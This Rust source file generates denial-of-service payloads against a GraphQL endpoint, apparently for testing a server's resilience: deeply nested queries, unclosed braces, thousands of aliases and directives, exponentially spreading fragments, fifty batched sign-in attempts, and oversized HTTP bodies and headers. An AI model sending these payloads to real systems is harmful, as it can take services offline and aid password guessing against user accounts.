//! The attacks, each a little different every time it is made.

use serde_json::json;
use std::fmt::Write as _;

/// A body, by the number of the turn.
type Body = Box<dyn Fn(u32) -> String>;

/// Just below the largest body, and four times as much.
const SIZES: [(&str, usize); 2] = [("90 kB", 90_000), ("400 kB", 400_000)];

/// Every attack by a body, with its name.
pub fn all() -> Vec<(&'static str, Body)> {
    let mut all: Vec<(&'static str, Body)> = Vec::new();
    for (size, bytes) in SIZES {
        for (what, before, open, close, after) in [
            ("nested lists", "{ nodes(ids: ", "[", "]", ") { id } }"),
            ("nested objects", "mutation { signIn(input: ", "{a:", "}", ") { errors { code } } }"),
            ("nested selections", "", "{a", "}", ""),
            ("inline fragments", "{ ", "...{", "a}", " }"),
            ("braces never closed", "", "{", "", ""),
        ] {
            let number = bytes / (open.len() + close.len());
            let name: &'static str = format!("{what}, {size}").leak();
            let nested = format!("{before}{}1{}{after}", open.repeat(number), close.repeat(number));
            all.push((name, body(move |turn| format!("# {turn}\n{nested}"))));
        }
        let name: &'static str = format!("directives, {size}").leak();
        let directives = "@include(if: true) ".repeat(bytes / 19);
        all.push((name, body(move |turn| format!("query Q{turn} {{ __typename {directives} }}"))));
        let name: &'static str = format!("nested variables, {size}").leak();
        let nested = format!("{}1{}", "[".repeat(bytes / 2), "]".repeat(bytes / 2));
        all.push((
            name,
            Box::new(move |turn| {
                format!(r#"{{"query":"query($i: [ID!]!) {{ nodes(ids: $i) {{ id }} }} # {turn}","variables":{{"i":{nested}}}}}"#)
            }),
        ));
        let name: &'static str = format!("one name, {size}").leak();
        all.push((name, body(move |turn| format!("{{ {}{turn} }}", "a".repeat(bytes)))));
    }
    for (name, width, depth) in [
        ("fragments, 2 wide, 24 deep", 2, 24),
        ("fragments, 100 wide, 4 deep", 100, 4),
        ("fragments, 2 wide, 30 deep", 2, 30),
        ("fragments, 1 wide, 900 deep", 1, 900),
    ] {
        all.push((name, body(move |turn| fragments(turn, width, depth))));
    }
    all.push(("10,000 aliases", body(|turn| many(turn, 10_000, |at| format!("a{at}: __typename ")))));
    all.push(("1,000 aliases", body(|turn| many(turn, 1_000, |at| format!("a{at}: __typename ")))));
    all.push((
        "1,000 fields that do not agree",
        body(|turn| {
            many(turn, 650, |at| format!("viewer {{ a: {} }} ", if at % 2 == 0 { "role" } else { "__typename" }))
        }),
    ));
    all.push(("1,900 fields that there are not", body(|turn| many(turn, 1_900, |at| format!("nope{at} ")))));
    all.push((
        "50 log-ins",
        body(|turn| {
            many(turn, 50, |at| {
                format!("a{at}: signIn(input: {{email: \"a@b.c\", password: \"{turn}\"}}) {{ errors {{ code }} }} ")
            })
            .replacen('{', "mutation {", 1)
        }),
    ));
    all
}

/// Every attack by bytes without an end: its name, its head, a piece and how many there are.
pub fn floods() -> Vec<(&'static str, &'static str, String, usize)> {
    let head = "POST /graphql HTTP/1.1\r\nhost: x\r\nconnection: close\r\ncontent-type: application/json\r\n";
    let announced: &'static str = format!("{head}content-length: 67108864\r\n\r\n").leak();
    let chunked: &'static str = format!("{head}transfer-encoding: chunked\r\n\r\n").leak();
    vec![
        ("a body of 64 MB", announced, " ".repeat(65_536), 1_024),
        ("a body of 64 MB in chunks", chunked, format!("10000\r\n{}\r\n", " ".repeat(65_536)), 1_024),
        ("a head of 4 MB", "GET /graphql HTTP/1.1\r\nx: ", "y".repeat(65_536), 64),
    ]
}

fn body(document: impl Fn(u32) -> String + 'static) -> Body {
    Box::new(move |turn| json!({ "query": document(turn) }).to_string())
}

fn many(turn: u32, number: usize, field: impl Fn(usize) -> String) -> String {
    let fields: String = (0..number).map(field).collect();
    format!("{{ {fields} }} # {turn}")
}

/// Fragments that each spread the next one so many times, so many deep.
fn fragments(turn: u32, width: usize, depth: usize) -> String {
    let mut document = format!("{{ viewer {{ ...f0 }} }} # {turn}\n");
    for at in 0..depth {
        let _ = write!(document, " fragment f{at} on Viewer {{ {} }}", format!("...f{} ", at + 1).repeat(width));
    }
    let _ = write!(document, " fragment f{depth} on Viewer {{ role }}");
    document
}
